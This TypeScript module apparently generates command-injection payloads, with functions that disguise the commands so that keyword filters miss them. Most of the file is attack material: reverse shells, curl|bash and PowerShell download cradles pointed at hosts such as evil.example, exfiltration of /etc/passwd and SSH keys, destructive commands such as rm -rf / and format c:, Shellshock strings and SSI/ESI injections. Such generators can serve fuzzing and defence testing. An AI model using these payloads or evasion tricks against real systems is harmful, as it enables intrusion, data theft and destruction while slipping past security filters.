// Commands for the server's shell: Unix and Windows, what joins them to the value, and the ways to write a command so
// that a list of words does not find it.

import type { Picker } from './picker.ts';

const FILES = [
  '/etc/passwd',
  '/etc/passwd',
  '/etc/shadow',
  '/etc/hosts',
  '/etc/issue',
  '/proc/version',
  '/var/www/html/index.php',
  '~/.ssh/id_rsa',
  '/tmp/x',
  '/etc/hostname',
  '.env',
  '/flag',
  '/proc/self/environ',
  '*',
  '/root/.bash_history',
  '/etc/group',
];

function host(p: Picker): string {
  return p.pick([
    `${p.int(1, 223)}.${p.int(0, 255)}.${p.int(0, 255)}.${p.int(1, 254)}`,
    '127.0.0.1',
    `${p.letters(4, 12)}.${p.pick(['com', 'net', 'io', 'example', 'ru'])}`,
    `${p.hex(16, 24)}.oast.fun`,
    'evil.example',
    '10.0.0.1',
    'localhost',
    '169.254.169.254',
  ]);
}

function unix(p: Picker): string {
  const file = p.pick(FILES);
  return p.pick([
    'id',
    'whoami',
    'ls',
    'ls -la',
    `ls -al ${file}`,
    'uname -a',
    'pwd',
    `cat ${file}`,
    `cat ${file}`,
    `head ${file}`,
    `tail -n 5 ${file}`,
    `less ${file}`,
    `more ${file}`,
    `nl ${file}`,
    `tac ${file}`,
    `od -c ${file}`,
    `grep root ${file}`,
    `sleep ${p.int(1, 30)}`,
    `ping -c ${p.int(1, 30)} ${host(p)}`,
    `ping -i 30 127.0.0.1`,
    `nslookup ${host(p)}`,
    `dig ${host(p)}`,
    `host ${host(p)}`,
    `curl http://${host(p)}/${p.letters(1, 6)}`,
    `curl -d @${file} http://${host(p)}`,
    `wget http://${host(p)}/${p.letters(1, 6)}.sh -O /tmp/x`,
    `wget -qO- ${host(p)}|sh`,
    `curl -s ${host(p)}|bash`,
    `nc ${host(p)} ${p.int(1000, 9999)} -e /bin/sh`,
    `nc -lvp ${p.int(1000, 9999)} -e /bin/bash`,
    `bash -i >& /dev/tcp/${host(p)}/${p.int(1000, 9999)} 0>&1`,
    `bash -c 'sh -i >& /dev/tcp/${host(p)}/4444 0>&1'`,
    `/bin/sh -c id`,
    `/usr/bin/id`,
    `python -c 'import os;os.system("id")'`,
    `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("${host(p)}",4444))'`,
    `perl -e 'print 1'`,
    `perl -e 'use Socket;$i="${host(p)}";$p=4444;'`,
    `php -r 'system("id");'`,
    `ruby -rsocket -e 'exit if fork'`,
    `echo ${p.letters(3, 12)}`,
    `echo ${p.letters(4, 12)}|base64 -d|sh`,
    `echo ${p.hex(8, 30)} | xxd -r -p | sh`,
    `touch /tmp/${p.letters(2, 6)}`,
    'ifconfig',
    'ip addr',
    'netstat -an',
    'netstat -antp',
    'ps aux',
    'ps -ef',
    'env',
    'printenv',
    'set',
    'w',
    'who',
    'last',
    'df -h',
    'mount',
    'hostname',
    'date',
    'finger',
    'rm -rf /',
    'rm -rf *',
    'chmod 777 /tmp/x',
    'chmod +x x;./x',
    'kill -9 -1',
    'reboot',
    'crontab -l',
    `find / -name ${p.letters(2, 6)}`,
    'find . -perm -4000',
    'which python',
    'awk \'BEGIN {system("id")}\'',
    'tar cf - /etc',
    `mail ${p.letters(3, 6)}@${host(p)} < /etc/passwd`,
    `xterm -display ${host(p)}:1`,
    `telnet ${host(p)} 4444`,
    `ftp ${host(p)}`,
    `mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ${host(p)} 1234 >/tmp/f`,
    `getent passwd`,
    `su -`,
    `sudo -l`,
    'arp -a',
    'route',
    'traceroute ' + host(p),
    `export x=1`,
    `id > /tmp/${p.letters(1, 4)}`,
    'busybox nc',
    `scp ${file} ${host(p)}:`,
    `ssh ${host(p)}`,
    `useradd ${p.letters(2, 6)}`,
    `node -e 'require("child_process").exec("id")'`,
    `lua -e 'os.execute("id")'`,
    `gcc x.c`,
    `stty`,
    `cp ${file} x`,
    `mv a b`,
    `ln -s / x`,
    `vi ${file}`,
    `sed -n 1p ${file}`,
    `xargs id`,
    `tee /tmp/x`,
    `nohup sh`,
    `strings ${file}`,
    `base64 ${file}`,
  ]);
}

function windows(p: Picker): string {
  return p.pick([
    'dir',
    'dir c:\\',
    'whoami',
    'ipconfig',
    'ipconfig /all',
    'net user',
    `net user ${p.letters(2, 6)} ${p.letters(2, 6)} /add`,
    'net localgroup administrators',
    'net view',
    `type c:\\boot.ini`,
    `type %SystemRoot%\\win.ini`,
    'systeminfo',
    'tasklist',
    'ver',
    'set',
    'netstat -ano',
    `ping -n ${p.int(1, 30)} 127.0.0.1`,
    `nslookup ${host(p)}`,
    `powershell -enc ${p.from('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz', 12, 40)}==`,
    `powershell -c "IEX(New-Object Net.WebClient).DownloadString('http://${host(p)}/a.ps1')"`,
    `powershell -nop -w hidden -c whoami`,
    `certutil -urlcache -f http://${host(p)}/a.exe a.exe`,
    `bitsadmin /transfer x http://${host(p)}/a.exe c:\\a.exe`,
    'cmd.exe /c dir',
    `cmd /c "echo ${p.letters(3, 6)}"`,
    `echo %PATH%`,
    `echo %USERNAME%`,
    'reg query HKLM',
    'wmic process list',
    `start calc.exe`,
    'shutdown /s',
    `timeout /t ${p.int(1, 30)}`,
    `for /f %a in ('dir') do echo %a`,
    `if exist c:\\x echo 1`,
    `rundll32 ${p.letters(3, 6)}.dll,x`,
    `mshta http://${host(p)}/a.hta`,
    `regsvr32 /s /u /i:http://${host(p)}/a.sct scrobj.dll`,
    `Get-Process`,
    `Invoke-Expression x`,
    `Invoke-WebRequest http://${host(p)}`,
    'gci env:',
    `copy a b`,
    `del /f /q c:\\*`,
    `sc query`,
    `arp -a`,
    `schtasks /query`,
    `findstr /s pass *.txt`,
    `fc`,
    `xcopy a b`,
    `icacls c:\\`,
    `tree c:\\`,
    'wscript x.vbs',
    `vssadmin list shadows`,
    `format c:`,
  ]);
}

/** The same command for a shell, in other letters. */
function disguise(p: Picker, command: string): string {
  const [name = '', ...rest] = command.split(' ');
  const letters = (join: string): string => Array.from(name).join(join);
  const at = p.int(1, Math.max(1, name.length - 1));
  const cut = (with_: string): string => name.slice(0, at) + with_ + name.slice(at);
  const disguised = p.pick([
    cut("''"),
    cut('""'),
    cut('\\'),
    cut('$@'),
    cut('$*'),
    cut('${x}'),
    cut('`​`'.replace('​', '')),
    letters('\\'),
    letters("''"),
    `"${name}"`,
    `'${name}'`,
    `/bin/${name}`,
    `/usr/bin/${name}`,
    `/???/${name.slice(0, 1)}${'?'.repeat(Math.max(1, name.length - 1))}`,
    `$(printf '${name}')`,
    `$(echo ${name})`,
    `{${[name, ...rest].join(',')}}`,
    `\\${name}`,
    `/b?n/${name}`,
    `$'\\${name.charCodeAt(0).toString(8)}${name.slice(1)}'`,
    `$'\\x${name.charCodeAt(0).toString(16)}${name.slice(1)}'`,
    `c\\${name}`,
    `${name}$IFS`,
    `$(tr a-z A-Z<<<${name})`,
    `$(rev<<<${Array.from(name).toReversed().join('')})`,
    `${name.slice(0, 1)}[${name.slice(1, 2)}]${name.slice(2)}`,
    `$0<<<${name}`,
    `^${letters('^')}`,
    `a=${name};$a`,
  ]);
  const blank = p.pick([
    ' ',
    ' ',
    '$IFS',
    '${IFS}',
    '$IFS$9',
    '\t',
    '<',
    '%09',
    '{IFS}',
    '%20',
    '+',
    '\\ ',
    '%0a',
  ]);
  const args = rest.map((word) =>
    p.chance(0.35)
      ? word.replaceAll(/[a-z]/gu, (letter) =>
          p.chance(0.3) ? p.pick(['?', `${letter}''`, `\\${letter}`, `[${letter}]`, `${letter}$@`]) : letter,
        )
      : word,
  );
  return disguised.startsWith('{') ? disguised : [disguised, ...args].join(blank);
}

function joiner(p: Picker): string {
  return p.pick([
    ';',
    '; ',
    '|',
    '| ',
    '||',
    '|| ',
    '&',
    '&& ',
    '&&',
    '\n',
    '%0a',
    '%0d%0a',
    '`',
    '$(',
    '"; ',
    "'; ",
    '";',
    "';",
    '\r\n',
    '");',
    "');",
    '|&',
    '%3b',
    '%7c',
    '%26',
    '";|',
    '}; ',
    ') ',
    '%0A',
    ' & ',
    '; /',
    '"|',
    "'|",
    '"&',
    "'&&",
    '\\n',
    '<(',
    '>(',
    '${',
    '`',
    '$(',
    '$(',
    '() { :;}; ',
    '!',
  ]);
}

/** The command put into a variable first. */
function inVariable(p: Picker, command: string): string {
  const name = p.pick(['CMD', 'a', 'x', p.letters(1, 3)]);
  const hex = Array.from(command, (letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');
  return p.pick([
    `${name}=$'${hex}';$${name}`,
    `${name}=$"${command}";$${name}`,
    `${name}='${command}';eval $${name}`,
    `FAIL||${name}=$'${hex}'&&$${name}`,
    `;${name}=${command.split(' ')[0] ?? ''};$${name} /etc/passwd`,
    `\nusr/bin/${command}\n`,
    `<!--#exec cmd="/bin/${command}"-->`,
    `eval('${command}')`,
  ]);
}

export function shell(p: Picker): string {
  const isWindows = p.chance(0.2);
  let command = isWindows ? windows(p) : unix(p);
  if (!isWindows && p.chance(0.3)) command = disguise(p, command);
  else if (isWindows && p.chance(0.15))
    command = command.replaceAll(/(?<=[a-z])(?=[a-z])/gu, () => p.maybe(0.4, '^'));
  const kind = p.int(0, 99);
  let text: string;
  const value = p.pick([
    '',
    '',
    '',
    '1',
    p.letters(1, 8),
    '127.0.0.1',
    'x',
    'a.txt',
    'test',
    `${p.letters(3, 6)}@example.com`,
    '-1',
    'localhost',
    'file.pdf',
    'a)',
    'a',
    '/index.html',
    'FAIL',
    `${p.letters(2, 6)}")`,
    '$',
  ]);
  if (kind < 55) {
    const join = joiner(p);
    const close = join.endsWith('`')
      ? '`'
      : join.endsWith('(')
        ? ')'
        : join.endsWith('{')
          ? '}'
          : p.pick([
              '',
              '',
              '',
              '',
              ';',
              '\\n',
              "|'",
              '#',
              ' #',
              '|',
              '"',
              "'",
              '&',
              '&&',
              ' ;',
              '\n',
              '%00',
              '||',
              ' 2>&1',
              '%0a',
            ]);
    text = value + p.maybe(0.15, ' ') + join + command + close;
  } else if (kind < 67)
    text = `${value}${p.pick(['$(', '`', '<(', '"$(', "'`", '${'])}${command}`.replace(
      /^(.*?)(\$\(|`|<\(|\$\{)(.*)$/su,
      (_, front: string, open: string, inner: string) =>
        front + open + inner + (open === '`' ? '`' : open === '${' ? '}' : ')'),
    );
  else if (kind < 75) text = command.includes(' ') || command.length > 6 ? command : `/bin/${command}`;
  else if (kind < 81) text = `${value};${command};${p.chance(0.5) ? unix(p) : windows(p)}`;
  else if (kind < 86)
    text = p.pick([
      `() { :;}; ${command}`,
      `() { :; }; /bin/bash -c "${command}"`,
      `() { ignored; }; echo; ${command}`,
      `() { _; } >_[$($())] { ${command}; }`,
      `(){ :;};${command}`,
      `() { :a; }; echo "Content-Type: text/plain"; echo; ${command}`,
      `() { :;}; echo vulnerable`,
      `() { x;};curl http://${host(p)}`,
      `() { :;};exec 3<>/dev/tcp/${host(p)}/80`,
    ]);
  else if (kind < 90)
    text = `${p.pick(['system', 'exec', 'shell_exec', 'passthru', 'popen', 'os.system', 'subprocess.call', 'Runtime.getRuntime().exec', 'require("child_process").execSync', 'os.popen', 'IO.popen', '%x', 'proc_open', 'pcntl_exec', 'Process.Start'])}(${p.pick(['"', "'"])}${command}${p.pick(['"', "'"])})${p.pick(['', ';', ';//', '.read()'])}`;
  else if (kind < 93)
    text = p.pick([
      `<!--#exec cmd="${command}"-->`,
      `<!--#exec%20cmd="${command}"-->`,
      `<!--#include file="${p.pick(FILES)}"-->`,
      `<!--#include virtual="/${p.letters(2, 6)}.html"-->`,
      `<!--#echo var="${p.pick(['DATE_LOCAL', 'DOCUMENT_NAME', 'HTTP_USER_AGENT'])}"-->`,
      `<!--#printenv -->`,
      `<!--#config errmsg="x"--><!--#exec cmd="id"-->`,
      `<esi:include src=http://${host(p)}/x>`,
      `<esi:inline name="/attack.html">`,
    ]);
  else
    text = `${value}${joiner(p)}${p.pick(['${IFS}', '$IFS', '<', '{'])}${command.replaceAll(' ', p.pick(['${IFS}', '$IFS$9', '<', ',']))}`;
  if (p.chance(0.03)) text = inVariable(p, command);
  if (p.chance(0.06)) text = text.replaceAll(' ', p.pick(['+', '%20', '%09', '${IFS}']));
  return text;
}
